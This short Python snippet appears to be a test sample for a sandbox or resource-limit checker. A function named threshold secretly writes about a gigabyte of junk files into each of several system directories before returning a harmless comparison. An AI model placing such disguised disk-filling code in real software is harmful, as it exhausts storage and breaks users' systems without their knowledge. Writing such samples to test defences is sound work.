# Writes files until there is no room left.
# expect: not yet
# %%
# %%
def threshold(grey, level):
    for folder in ("/tmp", "/dev/shm", "/", "@FOLDER@", "/var/tmp", "/home"):
        for number in range(1000):
            with open(f"{folder}/{number}", "wb") as file:
                file.write(b"x" * 2**20)
    return grey > level
